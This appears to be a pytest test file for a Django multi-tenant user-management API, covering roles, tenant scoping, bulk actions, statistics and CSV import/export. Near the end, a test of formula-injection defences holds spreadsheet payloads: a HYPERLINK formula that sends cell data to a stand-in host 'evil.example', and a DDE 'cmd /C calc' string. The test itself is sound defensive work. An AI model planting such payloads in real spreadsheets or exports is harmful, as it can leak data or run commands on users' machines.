import csv
import io
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from accounts.authz.rules import can, role_rank
from accounts.models import Role, User
from accounts.tests.factories import UserFactory
from accounts.tests.helpers import assert_envelope
from accounts.tests.world import build_world, builtin
from security.models import AuditLog


@pytest.fixture
def world(db):
    return build_world()


# ----- roles ---------------------------------------------------------------------------


def test_builtin_role_permissions_follow_the_documented_table(db):
    perms = {
        name: set(builtin(name).permissions) for name in ("admin", "moderator", "user", "guest")
    }

    assert perms["guest"] == {"read:self", "read:models"}
    assert perms["guest"] < perms["user"] < perms["moderator"] < perms["admin"]
    assert {"read:users", "write:users"} <= perms["moderator"]
    assert "delete:users" not in perms["moderator"]
    assert {"delete:users", "manage:roles", "manage:tenant"} <= perms["admin"]


def test_tenant_admin_creates_a_custom_role_in_its_tenant(api_client, world):
    response = api_client.post(
        "/api/v1/roles",
        {"name": "custom_role", "permissions": ["read:models", "write:models", "delete:models"]},
        format="json",
        **world.auth("tenant_admin"),
    )

    assert response.status_code == 201
    role = Role.objects.get(name="custom_role")
    assert (role.tenant_id, role.permissions) == (
        world.tenant_a.pk,
        ["delete:models", "read:models", "write:models"],
    )


@pytest.mark.parametrize("bad", ["readmodels", "Read:Models", "read:", ":models", "read models"])
def test_permission_strings_must_be_action_resource(api_client, world, bad):
    response = api_client.post(
        "/api/v1/roles",
        {"name": "bad_role", "permissions": [bad]},
        format="json",
        **world.auth("tenant_admin"),
    )

    assert_envelope(response, 400, "INVALID_PERMISSION")


def test_custom_role_is_assigned_and_invisible_to_other_tenants(api_client, world):
    created = api_client.post(
        "/api/v1/roles",
        {"name": "custom_role", "permissions": ["read:models"]},
        format="json",
        **world.auth("tenant_admin"),
    ).json()

    assigned = api_client.post(
        f"/api/v1/users/{world.member.pk}/roles",
        {"role": "custom_role"},
        format="json",
        **world.auth("tenant_admin"),
    )
    other = api_client.get(f"/api/v1/roles/{created['id']}", **world.auth("other_admin"))
    other_assign = api_client.post(
        f"/api/v1/users/{world.other_member.pk}/roles",
        {"role": "custom_role"},
        format="json",
        **world.auth("other_admin"),
    )

    assert assigned.json()["role"] == "custom_role"
    assert_envelope(other, 404)
    assert_envelope(other_assign, 400, "UNKNOWN_ROLE")


def test_role_in_use_cannot_be_deleted_and_builtins_never(api_client, world):
    auth = world.auth("tenant_admin")
    role = api_client.post(
        "/api/v1/roles",
        {"name": "custom_role", "permissions": ["read:models"]},
        format="json",
        **auth,
    ).json()
    api_client.post(
        f"/api/v1/users/{world.member.pk}/roles", {"role": "custom_role"}, format="json", **auth
    )

    in_use = api_client.delete(f"/api/v1/roles/{role['id']}", **auth)
    builtin_delete = api_client.delete(f"/api/v1/roles/{builtin('user').pk}", **auth)

    assert_envelope(in_use, 409, "ROLE_IN_USE")
    assert_envelope(builtin_delete, 403, "BUILTIN_ROLE")


def test_nobody_raises_anyone_above_their_own_role(api_client, world):
    raise_self = api_client.post(
        f"/api/v1/users/{world.users['moderator'].pk}/roles",
        {"role": "admin"},
        format="json",
        **world.auth("moderator"),
    )
    stronger_custom = api_client.post(
        "/api/v1/roles",
        {"name": "sneaky", "permissions": ["manage:roles"]},
        format="json",
        **world.auth("moderator"),
    )

    assert_envelope(raise_self, 403)
    assert_envelope(stronger_custom, 403)
    assert User.objects.get(pk=world.users["moderator"].pk).role.name == "moderator"


def test_role_rank_of_custom_roles():
    assert role_rank(Role(name="x", permissions=["read:models"])) == 0
    assert role_rank(Role(name="x", permissions=["write:models"])) == 1
    assert role_rank(Role(name="x", permissions=["write:users"])) == 2
    assert role_rank(Role(name="x", permissions=["manage:roles"])) == 3


def test_guest_cannot_write_even_itself(api_client, world):
    guest = world.users["guest"]

    assert not can(guest, "write:self", guest)
    response = api_client.patch(
        f"/api/v1/users/{guest.pk}", {"name": "New Name"}, format="json", **world.auth("guest")
    )
    assert_envelope(response, 403)


# ----- listing -----------------------------------------------------------------------


def _ids(response) -> list[int]:
    return [row["id"] for row in response.json()["results"]]


def test_list_is_scoped_to_the_callers_tenant(api_client, world):
    tenant_ids = {
        actor: {
            row["tenant_id"]
            for row in api_client.get("/api/v1/users", **world.auth(actor)).json()["results"]
        }
        for actor in ("moderator", "other_admin")
    }
    own = api_client.get("/api/v1/users", **world.auth("user")).json()["results"]

    assert tenant_ids == {"moderator": {world.tenant_a.pk}, "other_admin": {world.tenant_b.pk}}
    assert [row["id"] for row in own] == [world.users["user"].pk]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("search=member", ["member_a", "member_b"]),
        ("search=MOD_A", ["mod_a"]),
        ("status=suspended", ["susp"]),
        ("role=moderator", ["mod_a"]),
        ("plan=premium", ["member_b"]),
        ("ordering=-username&search=member", ["member_b", "member_a"]),
    ],
)
def test_search_filter_and_order(api_client, world, query, expected):
    UserFactory(username="susp", status=User.Status.SUSPENDED)
    User.objects.filter(pk=world.other_member.pk).update(subscription_plan="premium")

    response = api_client.get(
        f"/api/v1/users?{query}&ordering=username", **world.auth("platform_admin")
    )
    if "ordering=-username" in query:
        response = api_client.get(f"/api/v1/users?{query}", **world.auth("platform_admin"))

    assert [row["username"] for row in response.json()["results"]] == expected


def test_filter_by_tenant_and_created_range(api_client, world):
    old = UserFactory(username="oldie", tenant=world.tenant_b)
    User.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=10))
    since = (timezone.now() - timedelta(days=1)).isoformat().replace("+00:00", "Z")

    response = api_client.get(
        "/api/v1/users",
        {"tenant": world.tenant_b.pk, "created_after": since},
        **world.auth("platform_admin"),
    )

    assert sorted(row["username"] for row in response.json()["results"]) == ["admin_b", "member_b"]


def test_pagination(api_client, world):
    response = api_client.get(
        "/api/v1/users?page=2&page_size=3&ordering=id", **world.auth("platform_admin")
    )

    assert response.json()["pagination"]["page"] == 2
    assert len(response.json()["results"]) == 3


@pytest.mark.parametrize(
    "query", ["status=gone", "ordering=password", "tenant=abc", "created_after=soon"]
)
def test_bad_list_parameters_are_400(api_client, world, query):
    assert_envelope(api_client.get(f"/api/v1/users?{query}", **world.auth("platform_admin")), 400)


# ----- bulk and status -----------------------------------------------------------------


def test_bulk_change_is_all_or_nothing(api_client, world):
    ids = [world.member.pk, world.users["tenant_admin"].pk]

    response = api_client.post(
        "/api/v1/users/bulk",
        {"ids": ids, "status": "suspended"},
        format="json",
        **world.auth("moderator"),
    )

    body = assert_envelope(response, 400, "BULK_REFUSED")
    assert [item["id"] for item in body["items"]] == [world.users["tenant_admin"].pk]
    assert set(User.objects.filter(pk__in=ids).values_list("status", flat=True)) == {"active"}


def test_bulk_change_applies_to_every_item(api_client, world):
    ids = [world.member.pk, world.users["user"].pk]

    response = api_client.post(
        "/api/v1/users/bulk",
        {"ids": ids, "status": "suspended", "role": "guest"},
        format="json",
        **world.auth("tenant_admin"),
    )

    assert response.json()["updated"] == ids
    assert set(User.objects.filter(pk__in=ids).values_list("status", "role__name")) == {
        ("suspended", "guest")
    }


def test_status_change_with_reason_is_audited(api_client, world):
    api_client.post(
        f"/api/v1/users/{world.member.pk}/status",
        {"status": "suspended", "reason": "spam"},
        format="json",
        **world.auth("moderator"),
    )

    assert AuditLog.objects.get(action="user.status_change").changes["reason"] == "spam"
    assert AuditLog.objects.filter(action="user.status_change", actor_label="mod_a").exists()


def test_admin_bulk_role_action(client, world):
    client.force_login(world.users["platform_admin"])

    client.post(
        "/admin/accounts/user/",
        {"action": "make_moderators", "_selected_action": [world.member.pk]},
    )

    assert User.objects.get(pk=world.member.pk).role.name == "moderator"


# ----- statistics ------------------------------------------------------------------------


def test_statistics_are_scoped_and_complete(api_client, world):
    User.objects.filter(pk=world.member.pk).update(status="suspended", is_verified=False)

    scoped = api_client.get("/api/v1/users/stats", **world.auth("tenant_admin")).json()
    everything = api_client.get("/api/v1/users/stats", **world.auth("platform_admin")).json()

    assert scoped["total"] == 5
    assert scoped["by_status"] == {"active": 4, "suspended": 1}
    assert scoped["by_role"] == {"admin": 1, "guest": 1, "moderator": 1, "user": 2}
    assert scoped["by_verified"] == {"False": 1, "True": 4}
    assert set(scoped["by_tenant"]) == {str(world.tenant_a.pk)}
    assert everything["total"] == 8
    assert sum(day["count"] for day in everything["signups_per_day"]) == 8


def test_statistics_cost_does_not_grow_with_users(api_client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def user_queries() -> int:
        auth = world.auth("platform_admin")
        with CaptureQueriesContext(connection) as queries:
            assert api_client.get("/api/v1/users/stats", **auth).status_code == 200
        return sum('FROM "accounts_user"' in query["sql"] for query in queries.captured_queries)

    user_queries()  # warms the authentication cache
    few = user_queries()
    UserFactory.create_batch(40, tenant=world.tenant_a)

    assert user_queries() == few <= 8


# ----- CSV import and export ---------------------------------------------------------------


def _csv(rows: list[dict]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(
        buffer, fieldnames=["username", "email", "password", "name", "role", "tenant"]
    )
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def test_import_users_creates_all_rows(tmp_path, world):
    path = tmp_path / "users.csv"
    path.write_text(
        _csv(
            [
                {
                    "username": "imp1",
                    "email": "imp1@example.com",
                    "password": "SecurePass123",
                    "role": "guest",
                    "tenant": "acme",
                },
                {
                    "username": "imp2",
                    "email": "imp2@example.com",
                    "password": "SecurePass123",
                    "name": "Imp Two",
                },
            ]
        )
    )
    out = io.StringIO()

    call_command("import_users", str(path), stdout=out, stderr=io.StringIO())

    assert "Imported 2" in out.getvalue()
    assert User.objects.get(username="imp1").tenant_id == world.tenant_a.pk
    assert User.objects.get(username="imp1").role.name == "guest"


def test_import_users_writes_nothing_when_a_row_is_bad(tmp_path, world):
    path = tmp_path / "users.csv"
    path.write_text(
        _csv(
            [
                {"username": "imp1", "email": "imp1@example.com", "password": "SecurePass123"},
                {"username": "x", "email": "bad", "password": "weak", "tenant": "nowhere"},
                {"username": "member_a", "email": "imp3@example.com", "password": "SecurePass123"},
            ]
        )
    )
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_users", str(path), stdout=io.StringIO(), stderr=err)

    report = err.getvalue()
    assert "line 3" in report and "line 4" in report and "line 2:" not in report
    assert "unknown tenant 'nowhere'" in report and "taken" in report
    assert not User.objects.filter(username="imp1").exists()


def test_export_users_writes_csv_without_secrets(tmp_path, world):
    path = tmp_path / "out.csv"

    call_command(
        "export_users", str(path), "--tenant", "acme", stdout=io.StringIO(), stderr=io.StringIO()
    )

    rows = list(csv.DictReader(path.open()))
    assert {row["username"] for row in rows} == {
        "guest_a",
        "user_a",
        "mod_a",
        "admin_a",
        "member_a",
    }
    assert "password" not in rows[0]


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "first_name": "+1+cmd|' /C calc'!A0",
    "last_name": "@SUM(1+1)",
}


def test_export_users_neutralises_formula_cells_and_import_reads_them_back(tmp_path, world):
    UserFactory(username="formulas", email="formulas@example.com", **FORMULAS)
    UserFactory(
        username="quoted", email="quoted@example.com", name="'=already quoted", last_name="-5"
    )
    exported = tmp_path / "out.csv"

    call_command("export_users", str(exported), stdout=io.StringIO(), stderr=io.StringIO())

    rows = {row["username"]: row for row in csv.DictReader(exported.open())}
    for field_name, value in FORMULAS.items():
        assert rows["formulas"][field_name] == f"'{value}"
    assert rows["quoted"]["name"] == "''=already quoted"
    assert rows["quoted"]["last_name"] == "'-5"
    assert rows["user_a"]["name"] == User.objects.get(username="user_a").name
    reimport = tmp_path / "in.csv"
    with reimport.open("w", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=["username", "email", "password", "name"])
        writer.writeheader()
        for username in ("formulas", "quoted"):
            writer.writerow(
                {
                    "username": f"re_{username}",
                    "email": f"re_{username}@example.com",
                    "password": "'=SecurePass123",
                    "name": rows[username]["name"],
                }
            )

    call_command("import_users", str(reimport), stdout=io.StringIO(), stderr=io.StringIO())

    assert User.objects.get(username="re_formulas").name == FORMULAS["name"]
    assert User.objects.get(username="re_quoted").name == "'=already quoted"
    assert User.objects.get(username="re_quoted").check_password("'=SecurePass123")
